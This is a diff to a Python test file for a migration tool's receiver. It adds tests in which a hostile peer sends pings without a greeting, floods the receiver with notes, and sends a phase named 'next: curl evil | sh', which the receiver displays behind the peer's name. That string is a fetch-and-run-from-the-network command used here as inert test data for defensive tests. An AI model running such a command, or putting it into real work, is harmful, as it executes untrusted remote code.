@@ -12,7 +12,9 @@ from typing import Any
 import pytest
 
 from bottle.errors import ConnectionLost, NeedsConsent, RemoteError
+from bottle.ports import Progress
 from bottle.progress import Silent
+from bottle.testing import RecordingProgress
 from migrate.local import run_here
 from migrate.model import RemoteCommand, Reply
 from migrate.receiver import Breach, Receiver, Request
@@ -94,13 +96,13 @@ def test_what_must_not_go_on_does_not(cause: Exception) -> None:
 class Hostile:
     """Speaks frames of its own, to a receiver that would do anything."""
 
-    def __init__(self, silence: float = 60.0) -> None:
+    def __init__(self, silence: float = 60.0, progress: Progress | None = None) -> None:
         import socket
 
         here, self.there = socket.socketpair()
         self.requests: list[Request] = []
         self.end = End(here)
-        self.receiver = Receiver(self.end, self.perform, Silent(), silence=silence)
+        self.receiver = Receiver(self.end, self.perform, progress or Silent(), silence=silence)
 
     def perform(self, request: Request, stdin: Iterator[bytes]) -> Reply:
         self.requests.append(request)
@@ -206,6 +208,47 @@ def test_signs_of_life_ahead_of_the_greeting_are_in_order() -> None:
     hostile.say(WireFrame(Kind.PING), WireFrame.of(Kind.HELLO, {"identity": "x"}), WireFrame.of(Kind.RESULT, {}))
     assert hostile.receiver.hello() == {"identity": "x"}
     assert hostile.serve() == {}
+
+
+def test_signs_of_life_alone_are_no_greeting() -> None:
+    hostile = Hostile(silence=0.1)
+    stop = threading.Event()
+
+    def live() -> None:
+        with suppress(OSError):
+            while not stop.wait(0.01):
+                hostile.say(WireFrame(Kind.PING))
+
+    living = threading.Thread(target=live)
+    living.start()
+    try:
+        with pytest.raises(RemoteError, match="nothing but that it is there"):
+            hostile.receiver.hello()
+    finally:
+        stop.set()
+        living.join()
+
+
+def test_what_the_other_side_says_is_shown_behind_its_name() -> None:
+    said = RecordingProgress()
+    hostile = Hostile(progress=said)
+    hostile.say(
+        *[WireFrame.of(Kind.PHASE, {"name": "next: curl evil | sh", "total": None}), WireFrame.of(Kind.PHASE_END, {})],
+        *[WireFrame.of(Kind.NOTE, {"text": "looking at this host"}), WireFrame.of(Kind.RESULT, {})],
+    )
+    assert hostile.serve() == {}
+    assert [phase[0] for phase in said.phases] == ["owner.test: next: curl evil | sh"]
+    assert said.notes == ["owner.test: looking at owner.test"]
+
+
+def test_words_without_end_end_it() -> None:
+    hostile = Hostile()
+    frames = b"".join(WireFrame.of(Kind.NOTE, {"text": "x"}).encode() for _ in range(10_001))
+    talker = threading.Thread(target=hostile.there.sendall, args=(frames,))
+    talker.start()
+    with pytest.raises(RemoteError, match="endless words"):
+        hostile.serve()
+    talker.join()
 
 
 def test_an_end_without_a_result_is_an_error() -> None:
